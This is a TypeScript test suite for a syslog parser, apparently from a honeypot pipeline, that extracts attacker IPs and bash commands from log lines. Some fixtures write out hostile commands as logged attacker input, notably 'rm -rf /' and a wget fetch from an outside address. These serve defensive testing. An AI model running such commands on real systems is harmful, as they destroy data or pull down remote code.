import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import glossy from 'glossy';
import { afterAll, describe, expect, it } from 'vitest';
import type { LogRecord, ParseErrorCode } from '../record.js';
import { escapeMsg, formatLine } from './format.js';
import { ATTACKER_IP_FIELDS, MAX_LINE_LENGTH, parseLine } from './parse.js';

const RECEIVED = '2026-01-01T00:00:00.000000Z';
const opts = { receivedAt: () => RECEIVED };

function ok(line: string): LogRecord {
  const result = parseLine(line, opts);
  if (!result.ok)
    throw new Error(`expected ${JSON.stringify(line)} to parse: ${JSON.stringify(result.error)}`);
  return result.record;
}

function rejected(line: string): { code: ParseErrorCode; column: number } {
  const result = parseLine(line, opts);
  if (result.ok) throw new Error(`expected ${JSON.stringify(line)} to be rejected`);
  return { code: result.error.code, column: result.error.column };
}

/** The four examples of RFC 5424 §6.5, with a real BOM where the RFC writes "BOM". */
const RFC_EXAMPLE_1 =
  "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \uFEFF'su root' failed for lonvick on /dev/pts/8";
const RFC_EXAMPLE_2 =
  "<165>1 2003-08-24T05:14:15.000003-07:00 192.0.2.1 myproc 8710 - - %% It's time to make the do-nuts.";
const RFC_EXAMPLE_3 =
  '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] \uFEFFAn application event log entry...';
const RFC_EXAMPLE_4 =
  '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"][examplePriority@32473 class="high"]';

describe('RFC 5424 §6.5 examples', () => {
  it('example 1: no structured data, BOM stripped from MSG, facility auth (4) severity crit (2)', () => {
    expect(ok(RFC_EXAMPLE_1)).toEqual({
      timestamp: '2003-10-11T22:14:15.003000Z',
      timestampFromLine: true,
      facility: 4,
      severity: 2,
      decky: 'mymachine.example.com',
      service: 'su',
      procid: null,
      eventType: 'ID47',
      fields: {},
      sd: [],
      msg: "'su root' failed for lonvick on /dev/pts/8",
      attackerIp: null,
      envelopeDepth: 0,
    });
  });

  it('example 2: -07:00 offset normalised to UTC with microseconds, HOSTNAME 192.0.2.1 is not the attacker', () => {
    const r = ok(RFC_EXAMPLE_2);
    expect(r.timestamp).toBe('2003-08-24T12:14:15.000003Z');
    expect(r.facility).toBe(20);
    expect(r.severity).toBe(5);
    expect(r.decky).toBe('192.0.2.1');
    expect(r.service).toBe('myproc');
    expect(r.procid).toBe('8710');
    expect(r.eventType).toBeNull();
    expect(r.sd).toEqual([]);
    expect(r.msg).toBe("%% It's time to make the do-nuts.");
    expect(r.attackerIp).toBeNull();
  });

  it('example 3: one SD element, not ours, so no fields', () => {
    const r = ok(RFC_EXAMPLE_3);
    expect(r.sd).toEqual([
      {
        id: 'exampleSDID@32473',
        params: [
          ['iut', '3'],
          ['eventSource', 'Application'],
          ['eventID', '1011'],
        ],
      },
    ]);
    expect(r.fields).toEqual({});
    expect(r.msg).toBe('An application event log entry...');
  });

  it('example 4: two adjacent SD elements in order, no MSG', () => {
    const r = ok(RFC_EXAMPLE_4);
    expect(r.sd.map((e) => e.id)).toEqual(['exampleSDID@32473', 'examplePriority@32473']);
    expect(r.sd[1]?.params).toEqual([['class', 'high']]);
    expect(r.msg).toBeNull();
  });

  it.each([
    ['example 1', RFC_EXAMPLE_1],
    ['example 2', RFC_EXAMPLE_2],
    ['example 3', RFC_EXAMPLE_3],
    ['example 4', RFC_EXAMPLE_4],
  ])('agrees with glossy on header and structured data of %s', (_name, line) => {
    const oracle = glossy.Parse.parse(line);
    const r = ok(line);
    expect(oracle.type).toBe('RFC5424');
    expect(r.facility * 8 + r.severity).toBe(oracle.prival);
    expect(r.decky).toBe(oracle.host);
    expect(r.service).toBe(oracle.appName);
    expect(r.procid).toBe(oracle.pid);
    expect(r.eventType).toBe(oracle.msgID);
    const ours = Object.fromEntries(r.sd.map((e) => [e.id, Object.fromEntries(e.params)]));
    expect(ours).toEqual(oracle.structuredData ?? {});
  });
});

describe('header', () => {
  it('takes NILVALUE in every header field and SD; a NIL timestamp uses receivedAt', () => {
    const r = ok('<0>1 - - - - - -');
    expect(r).toMatchObject({
      timestamp: RECEIVED,
      timestampFromLine: false,
      facility: 0,
      severity: 0,
      decky: null,
      service: null,
      procid: null,
      eventType: null,
      fields: {},
      sd: [],
      msg: null,
      attackerIp: null,
    });
  });

  it('defaults receivedAt to now, in the normalised form', () => {
    const result = parseLine('<134>1 - h a - t -');
    expect(result.ok && result.record.timestamp).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
  });

  it('accepts PRI 191 and rejects 192 and leading zeros', () => {
    expect(ok('<191>1 - - - - - -')).toMatchObject({ facility: 23, severity: 7 });
    expect(rejected('<192>1 - - - - - -')).toEqual({ code: 'pri', column: 2 });
    expect(rejected('<002>1 - - - - - -')).toEqual({ code: 'pri', column: 2 });
    expect(rejected('<1000>1 - - - - - -')).toEqual({ code: 'pri', column: 5 });
    expect(rejected('<>1 - - - - - -')).toEqual({ code: 'pri', column: 2 });
    expect(rejected('134>1 - - - - - -')).toEqual({ code: 'pri', column: 1 });
    expect(rejected('<13x>1 - - - - - -')).toEqual({ code: 'pri', column: 4 });
  });

  it('reads VERSION as 1-2 digits not starting with 0', () => {
    expect(ok('<13>12 - - - - - -').facility).toBe(1);
    expect(rejected('<13>0 - - - - - -')).toEqual({ code: 'version', column: 5 });
    expect(rejected('<13>123 - - - - - -')).toEqual({ code: 'version', column: 7 });
    expect(rejected('<13> - - - - - -')).toEqual({ code: 'version', column: 5 });
    expect(rejected('<13>1- - - - - -')).toEqual({ code: 'version', column: 6 });
  });

  it.each([
    ['2026-05-10T12:00:01Z', '2026-05-10T12:00:01.000000Z'],
    ['2026-05-10T12:00:01.5+00:00', '2026-05-10T12:00:01.500000Z'],
    ['2026-05-10T12:00:01.123456789Z', '2026-05-10T12:00:01.123456Z'],
    ['2026-05-10T12:00:01.999999999-00:00', '2026-05-10T12:00:01.999999Z'],
    ['2026-05-10T00:30:00.25+01:00', '2026-05-09T23:30:00.250000Z'],
    ['2024-12-31T23:59:59.000001-05:30', '2025-01-01T05:29:59.000001Z'],
    ['2024-02-29T10:00:00Z', '2024-02-29T10:00:00.000000Z'],
    ['0099-01-01T00:00:00+01:00', '0098-12-31T23:00:00.000000Z'],
  ])('normalises timestamp %s to %s', (ts, expected) => {
    expect(ok(`<134>1 ${ts} h a - t -`).timestamp).toBe(expected);
  });

  // [timestamp, offset of the offending character in it]
  it.each([
    ['2026-05-10 12:00:01Z', 10],
    ['2026-05-10t12:00:01Z', 10],
    ['2026-05-10T12:00:01z', 19],
    ['2026-05-10T12:00:01', 19],
    ['2026-13-10T12:00:01Z', 5],
    ['2025-02-29T12:00:01Z', 8],
    ['2026-05-10T24:00:01Z', 11],
    ['2026-05-10T12:00:60Z', 17],
    ['2026-05-10T12:00:01.Z', 20],
    ['2026-05-10T12:00:01.1234567890Z', 20],
    ['2026-05-10T12:00:01+0100', 19],
    ['2026-05-10T12:00:01+24:00', 19],
    ['2026-05-10T12:00:01Zjunk', 20],
    ['26-05-10T12:00:01Z', 0],
  ])('rejects timestamp %s, pointing at offset %i', (ts, offset) => {
    const line = `<134>1 ${ts} h a - t -`;
    expect(rejected(line)).toEqual({ code: 'timestamp', column: 8 + offset });
  });

  it('rejects header fields over the RFC lengths, empty fields and truncated headers', () => {
    const ts = '2026-05-10T12:00:01Z';
    const head = `<134>1 ${ts} `; // HOSTNAME starts at column 29
    expect(ok(`${head}${'h'.repeat(255)} a - t -`).decky).toHaveLength(255);
    expect(rejected(`${head}${'h'.repeat(256)} a - t -`)).toEqual({ code: 'header', column: 29 + 255 });
    expect(rejected(`${head}h ${'a'.repeat(49)} - t -`)).toEqual({ code: 'header', column: 31 + 48 });
    expect(rejected(`${head}h a ${'p'.repeat(129)} t -`)).toEqual({ code: 'header', column: 33 + 128 });
    expect(rejected(`${head}h a - ${'m'.repeat(33)} -`)).toEqual({ code: 'header', column: 35 + 32 });
    expect(rejected(`${head} a - t -`)).toEqual({ code: 'header', column: 29 });
    expect(rejected(`${head}h a`)).toEqual({ code: 'header', column: 32 });
    expect(rejected(`<134>1 ${ts}`)).toEqual({ code: 'header', column: 28 });
    expect(rejected(`${head}h\ta - t -`)).toEqual({ code: 'header', column: 30 });
  });

  it('rejects control characters in the header as binary, wherever they are', () => {
    expect(rejected('\x16\x03\x01\x02\x00\x01\x00')).toEqual({ code: 'binary', column: 1 });
    expect(rejected('<134>1 2026-05-10T12:00:01Z h\x00st a - t -')).toEqual({ code: 'binary', column: 30 });
    expect(rejected('<134>1 2026-05\x00-10T12:00:01Z h a - t -')).toEqual({ code: 'binary', column: 15 });
    expect(rejected('<13\x01>1 - - - - - -')).toEqual({ code: 'binary', column: 4 });
    expect(rejected('<134>1 - h a - t\x7f -')).toEqual({ code: 'binary', column: 17 });
  });

  it('rejects empty, blank and over-long lines', () => {
    expect(rejected('')).toEqual({ code: 'empty', column: 1 });
    expect(rejected(' \t  ')).toEqual({ code: 'empty', column: 1 });
    expect(rejected('\n')).toEqual({ code: 'empty', column: 1 });
    const long = `<134>1 - h a - t - ${'x'.repeat(MAX_LINE_LENGTH)}`;
    expect(rejected(long)).toEqual({ code: 'too_long', column: MAX_LINE_LENGTH + 1 });
    const exact = `<134>1 - h a - t - ${'x'.repeat(MAX_LINE_LENGTH - 19)}`;
    expect(exact).toHaveLength(MAX_LINE_LENGTH);
    expect(ok(exact).msg).toHaveLength(MAX_LINE_LENGTH - 19);
  });

  it('ignores a trailing LF or CRLF a line reader left on', () => {
    expect(ok('<134>1 - h a - t - hello\r\n').msg).toBe('hello');
    expect(ok('<134>1 - h a - t [x@1 a="b"]\n').sd).toHaveLength(1);
  });

  it('never throws on non-string input', () => {
    expect(parseLine(undefined as unknown as string).ok).toBe(false);
  });
});

describe('structured data', () => {
  const head = '<134>1 2026-05-10T12:00:01Z web-01 http - request ';

  it('takes fields from the first relay@55555 element, first occurrence of a name winning, and keeps the other elements', () => {
    const r = ok(`${head}[a@1 x="1"][relay@55555 k="first" k="second" m=""][relay@55555 k="third"] tail`);
    expect(r.fields).toEqual({ k: 'first', m: '' });
    expect(r.sd).toEqual([
      { id: 'a@1', params: [['x', '1']] },
      { id: 'relay@55555', params: [['k', 'third']] },
    ]);
    expect(r.msg).toBe('tail');
  });

  it('accepts an element with no params', () => {
    expect(ok(`${head}[meta]`).sd).toEqual([{ id: 'meta', params: [] }]);
  });

  it('honours \\] inside a value, so params after it are kept (the reference lost them)', () => {
    const r = ok(
      `${head}[relay@55555 secret_printable="\\]bracket" secret_b64="XWJyYWNrZXQ=" src_ip="198.51.100.7"]`,
    );
    expect(r.fields.secret_printable).toBe(']bracket');
    expect(r.fields.src_ip).toBe('198.51.100.7');
    expect(r.attackerIp).toBe('198.51.100.7');
  });

  it('unescapes \\" \\\\ \\] and keeps any other backslash literally outside relay@55555', () => {
    const r = ok(`${head}[x@1 v="a\\"b\\\\c\\]d\\ne\\x41f\\qg\\\\"]`);
    expect(r.sd[0]?.params[0]?.[1]).toBe('a"b\\c]d\\ne\\x41f\\qg\\');
  });

  it('decodes \\n \\r \\t \\xHH only inside relay@55555', () => {
    const r = ok(`${head}[relay@55555 v="1\\n2\\r3\\t4\\x1b5\\x7F6\\xZZ7\\x"]`);
    expect(r.fields.v).toBe('1\n2\r3\t4\x1b5\x7f6\\xZZ7\\x');
  });

  it('replaces U+0000 in values and MSG with U+FFFD (PostgreSQL text cannot hold it)', () => {
    const r = ok(`${head}[relay@55555 a="x\x00y" b="p\\x00q"] m\x00sg`);
    expect(r.fields).toEqual({ a: 'x\uFFFDy', b: 'p\uFFFDq' });
    expect(r.msg).toBe('m\uFFFDsg');
  });

  it('stores a param named __proto__ as data', () => {
    const r = ok(`${head}[relay@55555 __proto__="x" constructor="y"]`);
    expect(Object.getPrototypeOf(r.fields)).toBe(Object.prototype);
    expect(Object.keys(r.fields)).toEqual(['__proto__', 'constructor']);
    expect(r.fields.constructor).toBe('y');
  });

  // [why, line, where the error points: a marker in the line (its first character) or 'end']
  it.each([
    ['missing ]', `${head}[relay@55555 a="b"`, 'end'],
    ['missing closing quote', `${head}[relay@55555 a="b] msg`, 'end'],
    ['ends after =', `${head}[relay@55555 a=`, 'end'],
    ['ends in SD-ID', `${head}[relay@555`, 'end'],
    ['ends after backslash', `${head}[relay@55555 a="b\\`, 'end'],
    ['escaped closing quote', `${head}[relay@55555 a="b\\"]`, 'end'],
  ])('rejects the whole line when SD is unterminated (%s)', (_why, line, _at) => {
    expect(rejected(line)).toEqual({ code: 'sd_unterminated', column: line.length + 1 });
  });

  it.each([
    ['SD neither - nor [', `${head}relay@55555`, 'relay'],
    ['junk after -', `${head}-junk`, 'junk'],
    ['space before ]', `${head}[relay@55555 a="b" ]`, ']'],
    ['unquoted value', `${head}[relay@55555 a=b]`, 'b]'],
    ['missing =', `${head}[relay@55555 a"b"]`, '"b'],
    ['junk after ]', `${head}[relay@55555 a="b"]x`, 'x'],
    ['junk after value', `${head}[relay@55555 a="b"c="d"]`, 'c='],
    ['empty SD-ID', `${head}[ a="b"]`, ' a='],
    ['SD-ID too long', `${head}[${'i'.repeat(33)}]`, 'i]'],
    ['control in name', `${head}[relay@55555 a\x01="b"]`, '\x01'],
  ])('rejects malformed structured data (%s)', (_why, line, at) => {
    expect(rejected(line)).toEqual({ code: 'structured_data', column: line.indexOf(at) + 1 });
  });

  it('rejects a line that ends before STRUCTURED-DATA', () => {
    const line = '<134>1 2026-05-10T12:00:01Z web-01 http - request';
    expect(rejected(line)).toEqual({ code: 'structured_data', column: line.length + 1 });
  });
});

describe('MSG', () => {
  it('is null when absent or empty, and keeps everything after one space verbatim', () => {
    expect(ok('<134>1 - h a - t -').msg).toBeNull();
    expect(ok('<134>1 - h a - t - ').msg).toBeNull();
    expect(ok('<134>1 - h a - t - \uFEFF').msg).toBeNull();
    expect(ok('<134>1 - h a - t -  two  spaces \\n ').msg).toBe(' two  spaces \\n ');
  });
});

describe('nested envelopes', () => {
  const wrapped =
    '<14>1 2026-05-01T00:00:01.000123+00:00 decky-03 1 - - - 2026-05-01T00:00:01.000100+00:00 decky-03 bash - command [timeQuality tzKnown="1" isSynced="1" syncAccuracy="1234"] CMD uid=0 user=root src=45.1.2.3 pwd=/root cmd=cat /proc/cpuinfo | grep name | wc -l';

  it('unwraps the Docker-captured bash logger line and reads its CMD body', () => {
    expect(ok(wrapped)).toEqual({
      timestamp: '2026-05-01T00:00:01.000100Z',
      timestampFromLine: true,
      facility: 1,
      severity: 6,
      decky: 'decky-03',
      service: 'bash',
      procid: null,
      eventType: 'command',
      fields: {
        uid: '0',
        user: 'root',
        src: '45.1.2.3',
        pwd: '/root',
        cmd: 'cat /proc/cpuinfo | grep name | wc -l',
      },
      sd: [
        {
          id: 'timeQuality',
          params: [
            ['tzKnown', '1'],
            ['isSynced', '1'],
            ['syncAccuracy', '1234'],
          ],
        },
      ],
      msg: 'CMD uid=0 user=root src=45.1.2.3 pwd=/root cmd=cat /proc/cpuinfo | grep name | wc -l',
      attackerIp: '45.1.2.3',
      envelopeDepth: 1,
    });
  });

  it('unwraps a full inner line and takes its PRI', () => {
    const r = ok(
      '<14>1 2026-05-01T00:00:01Z outer 1 - - - <134>1 2026-05-01T00:00:00.5Z web-01 http - request [relay@55555 remote_addr="203.0.113.9:4444"]',
    );
    expect(r).toMatchObject({
      facility: 16,
      severity: 6,
      decky: 'web-01',
      service: 'http',
      eventType: 'request',
    });
    expect(r.timestamp).toBe('2026-05-01T00:00:00.500000Z');
    expect(r.attackerIp).toBe('203.0.113.9');
    expect(r.fields.remote_port).toBe('4444');
    expect(r.envelopeDepth).toBe(1);
  });

  it("keeps the outer timestamp when the inner full line's is NIL", () => {
    const r = ok('<14>1 2026-05-01T00:00:01Z outer 1 - - - <134>1 - web-01 http - request -');
    expect(r.timestamp).toBe('2026-05-01T00:00:01.000000Z');
    expect(r.timestampFromLine).toBe(true);
  });

  it('stops after four envelopes', () => {
    let line = '<134>1 2026-05-01T00:00:00Z core svc - event [relay@55555 src_ip="192.0.2.9"]';
    for (let i = 0; i < 6; i++) line = `<14>1 2026-05-01T00:00:0${i + 1}Z wrap${i} 1 - - - ${line}`;
    const r = ok(line);
    expect(r.envelopeDepth).toBe(4);
    expect(r.decky).toBe('wrap1');
    expect(r.eventType).toBeNull();
  });

  it('leaves MSG alone when it only looks like an envelope', () => {
    const r = ok('<14>1 2026-05-01T00:00:01Z h 1 - - - 2026 was a good year');
    expect(r.msg).toBe('2026 was a good year');
    expect(r.envelopeDepth).toBe(0);
    const bad = ok('<14>1 2026-05-01T00:00:01Z h 1 - - - <134>1 - web-01 http - request [relay@55555 a="b');
    expect(bad.envelopeDepth).toBe(0);
    expect(bad.msg).toMatch(/^<134>1/);
  });

  it('does not unwrap when MSGID or SD is present', () => {
    expect(ok('<14>1 - h a - t - <134>1 - x y - z -').envelopeDepth).toBe(0);
    expect(ok('<14>1 - h a - - [x@1] <134>1 - x y - z -').envelopeDepth).toBe(0);
  });
});

describe('bash CMD bodies', () => {
  it('reads k=v tokens up to cmd= and keeps the rest of the line as the command, event type NIL → command', () => {
    const r = ok(
      '<13>1 - h bash - - - CMD uid=0 user=root src=45.1.2.3 pwd=/my dir cmd=echo a=b src=9.9.9.9  x',
    );
    expect(r.eventType).toBe('command');
    expect(r.fields).toEqual({
      uid: '0',
      user: 'root',
      src: '45.1.2.3',
      pwd: '/my dir',
      cmd: 'echo a=b src=9.9.9.9  x',
    });
    expect(r.attackerIp).toBe('45.1.2.3');
  });

  it('never overwrites SD fields, and ignores other event types', () => {
    const r = ok(
      '<13>1 - h bash - command [relay@55555 cmd="ls" src_ip="192.0.2.1"] CMD src=45.1.2.3 cmd=rm -rf /',
    );
    expect(r.fields).toEqual({ cmd: 'ls', src_ip: '192.0.2.1', src: '45.1.2.3' });
    expect(ok('<13>1 - h bash - request - CMD cmd=ls').fields).toEqual({});
  });

  it('handles a telnet CMD body without user or src', () => {
    const r = ok('<13>1 - h bash - command - CMD uid=0 pwd=/ cmd=uname -a');
    expect(r.fields).toEqual({ uid: '0', pwd: '/', cmd: 'uname -a' });
    expect(r.attackerIp).toBeNull();
  });
});

describe('attacker IP', () => {
  const line = (sd: string, msg = '') => `<134>1 - decky-01 svc - ev ${sd}${msg ? ` ${msg}` : ''}`;

  it('follows the reference priority order of fields', () => {
    expect(ATTACKER_IP_FIELDS).toEqual([
      'src_ip',
      'src',
      'client_ip',
      'remote_ip',
      'remote_addr',
      'target_ip',
      'ip',
    ]);
    expect(ok(line('[relay@55555 ip="192.0.2.7" remote_addr="192.0.2.5" src="192.0.2.2"]')).attackerIp).toBe(
      '192.0.2.2',
    );
  });

  it('splits a.b.c.d:port and [v6]:port, keeping an existing remote_port', () => {
    const v4 = ok(line('[relay@55555 remote_addr="203.0.113.9:51544"]'));
    expect(v4.attackerIp).toBe('203.0.113.9');
    expect(v4.fields.remote_port).toBe('51544');
    const v6 = ok(line('[relay@55555 remote_addr="[2001:DB8::1]:443"]'));
    expect(v6.attackerIp).toBe('2001:db8::1');
    expect(v6.fields.remote_port).toBe('443');
    const kept = ok(line('[relay@55555 remote_addr="203.0.113.9:1" remote_port="2"]'));
    expect(kept.fields.remote_port).toBe('2');
  });

  it('does not split a bare IPv6 literal, and strips brackets', () => {
    const bare = ok(line('[relay@55555 src_ip="2001:db8::1"]'));
    expect(bare.attackerIp).toBe('2001:db8::1');
    expect(bare.fields.remote_port).toBeUndefined();
    expect(ok(line('[relay@55555 src_ip="[2001:db8::2]"]')).attackerIp).toBe('2001:db8::2');
    expect(ok(line('[relay@55555 src_ip="::ffff:192.0.2.4"]')).attackerIp).toBe('192.0.2.4');
  });

  it('skips values that are not IPs and tries the next field', () => {
    const r = ok(
      line(
        '[relay@55555 src_ip="unknown" src="host.example:22" remote_addr="192.0.2.8:70000" ip="192.0.2.9"]',
      ),
    );
    expect(r.attackerIp).toBe('192.0.2.9');
    expect(r.fields.remote_port).toBeUndefined();
  });

  it('falls back to key=value tokens in MSG, then to anchored prose', () => {
    expect(ok(line('-', 'peer client_ip=192.0.2.10, bye')).attackerIp).toBe('192.0.2.10');
    expect(ok(line('-', 'Failed password for root from 192.0.2.11 port 22 ssh2')).attackerIp).toBe(
      '192.0.2.11',
    );
    expect(ok(line('-', 'Connection FROM 192.0.2.12:5555')).attackerIp).toBe('192.0.2.12');
    expect(
      ok(line('-', 'pam_unix(sshd:auth): authentication failure; rhost=192.0.2.13 user=root')).attackerIp,
    ).toBe('192.0.2.13');
    expect(ok(line('-', 'client: 2001:db8::5 said hi')).attackerIp).toBe('2001:db8::5');
    expect(ok(line('-', 'SRC=192.0.2.14.')).attackerIp).toBe('192.0.2.14');
  });

  it('never takes an arbitrary IP from MSG, nor HOSTNAME', () => {
    expect(
      ok(line('[relay@55555 cmd="wget http://185.1.2.3/x"]', 'wget http://185.1.2.3/x')).attackerIp,
    ).toBeNull();
    expect(ok('<134>1 - 192.0.2.1 svc - ev - hello').attackerIp).toBeNull();
    expect(ok(line('-', 'datafrom 192.0.2.1 xsrc=192.0.2.2')).attackerIp).toBeNull();
  });
});

describe('hostile input', () => {
  const head = '<134>1 2026-05-10T12:00:01Z h a - t ';
  const fill = (unit: string, prefix = head) =>
    prefix + unit.repeat(Math.floor((60 * 1024 - prefix.length) / unit.length));

  // Each is ~60 KiB; a linear scanner takes a few ms. A quadratic one would take hundreds.
  it.each([
    ['[a b="', fill('[a b="')],
    ['[relay@55555 b="', fill('[relay@55555 b="')],
    ['backslashes in a value', fill('\\', `${head}[relay@55555 a="`)],
    ['backslash-quote pairs', fill('\\"', `${head}[relay@55555 a="`)],
    ['escaped brackets and quotes', fill('\\]\\"x', `${head}[relay@55555 a="`)],
    ['many params', fill(' a="\\x"', `${head}[relay@55555 z="1"`)],
    ['many params, never closed', fill(' a="\\x', `${head}[relay@55555 z="1"`)],
    ['backslashes as SD', fill('\\\\\\')],
    ['many elements', fill('[relay@55555 b="c"]')],
    ['prose anchors', fill('from src= rhost=1 client:: ', `${head}- `)],
    ['key=value tokens', fill('src_ip=x ', `${head}- `)],
    ['CMD tokens', fill('a ', `${head}- CMD k=v `)],
    ['nested prefixes', fill('<1>1 - h a - - - ', '<1>1 - h a - - - ')],
  ])('parses 60 KiB of %s in linear time without throwing', (_name, line) => {
    let best = Number.POSITIVE_INFINITY;
    for (let i = 0; i < 3; i++) {
      const started = performance.now();
      parseLine(line, opts);
      best = Math.min(best, performance.now() - started);
    }
    expect(best).toBeLessThan(50);
  });

  it('never throws and reports a column inside the line (property)', () => {
    const alphabet = fc.constantFrom(...'<>[]"\\= -:.0123456789TZabrelay@5\x00\t\n\uFEFF\uD800'.split(''));
    const prefix = fc.constantFrom('', '<134>1 ', '<134>1 - h a - t ', '<134>1 - h a - t [relay@55555 a="');
    fc.assert(
      fc.property(prefix, fc.string({ unit: alphabet, maxLength: 200 }), (p, s) => {
        const line = p + s;
        const result = parseLine(line, opts);
        if (!result.ok) {
          expect(result.error.column).toBeGreaterThanOrEqual(1);
          expect(result.error.column).toBeLessThanOrEqual(line.length + 1);
        }
      }),
      { numRuns: 3000 },
    );
  });
});

describe('round trip with the formatter', () => {
  const base = {
    timestamp: '2026-05-10T12:00:01.123456Z',
    severity: 6,
    decky: 'decky-01',
    service: 'ssh',
    eventType: 'auth_attempt',
  };

  it('reads back what the formatter wrote', () => {
    const line = formatLine({
      ...base,
      fields: {
        username: 'root',
        secret_printable: ']"\\',
        src_ip: '203.0.113.9',
        src_port: 51544,
        ok: false,
      },
      msg: 'login attempt',
    });
    const r = ok(line);
    expect(r).toMatchObject({
      timestamp: base.timestamp,
      facility: 16,
      severity: 6,
      decky: 'decky-01',
      service: 'ssh',
      eventType: 'auth_attempt',
      fields: {
        username: 'root',
        secret_printable: ']"\\',
        src_ip: '203.0.113.9',
        src_port: '51544',
        ok: 'false',
      },
      msg: 'login attempt',
      attackerIp: '203.0.113.9',
    });
  });

  const reserved = new Set<string>([...ATTACKER_IP_FIELDS, 'remote_port', 'truncated']);
  const name = fc
    .string({
      unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzABCXYZ0123456789_.-'.split('')),
      minLength: 1,
      maxLength: 32,
    })
    .filter((n) => !reserved.has(n) && n !== '__proto__');
  const tricky = fc.constantFrom(...'\\"[]\n\r\t\x00\x01\x1b\x7f\x85 =xn\uFEFF\uD83D\uDE00'.split(''));
  const value = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: tricky }),
    fc.string({ unit: 'grapheme' }),
  );

  it('parseLine(formatLine(x)) returns the same fields and msg for arbitrary strings (property)', () => {
    fc.assert(
      fc.property(fc.dictionary(name, value, { maxKeys: 8 }), value, (fields, msg) => {
        const line = formatLine({ ...base, fields, msg });
        expect(line).not.toMatch(/[\n\r\x00]/);
        const r = ok(line);
        const expected = Object.fromEntries(
          Object.entries(fields).map(([k, v]) => [k, v.replaceAll('\0', '\uFFFD')]),
        );
        expect(r.fields).toEqual(expected);
        let shown = escapeMsg(msg);
        if (shown.startsWith('\uFEFF')) shown = shown.slice(1);
        expect(r.msg).toBe(shown === '' ? null : shown);
        if (!/[\x00-\x1f\x7f-\x9f]/.test(msg) && !msg.startsWith('\uFEFF'))
          expect(r.msg).toBe(msg === '' ? null : msg);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('the reference corpus', () => {
  const dir = mkdtempSync(join(tmpdir(), 'decnet-corpus-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('parses every generated line, finds every attacker, and honours escaped ] before the address', () => {
    const file = join(dir, 'c.log');
    execFileSync('sh', [
      '-c',
      `python3 /work/shared/tools/gen-decnet-corpus.py 20000 7 > '${file}' 2>/dev/null`,
    ]);
    const lines = readFileSync(file, 'utf8')
      .split('\n')
      .filter((l) => l !== '');
    expect(lines).toHaveLength(20000);
    let escapedBracket = 0;
    for (const line of lines) {
      const r = ok(line);
      expect(r.attackerIp, line).not.toBeNull();
      // What the generator wrote as the attacker: the first src_ip/src/remote_addr param (never escaped,
      // always before any MSG), or the src= of a bash CMD body.
      const written =
        /(?:^|[ [])(?:src_ip|src|remote_addr)="([0-9.]+)(?::(\d+))?"/.exec(line) ??
        / src=([0-9.]+) /.exec(line);
      expect(written, line).not.toBeNull();
      expect(r.attackerIp, line).toBe(written?.[1]);
      if (written?.[2] !== undefined) expect(r.fields.remote_port).toBe(written[2]);
      if (line.includes('\\]')) {
        escapedBracket++;
        expect(r.fields.secret_printable, line).toContain(']');
      }
    }
    expect(escapedBracket).toBeGreaterThan(100);
  });
});
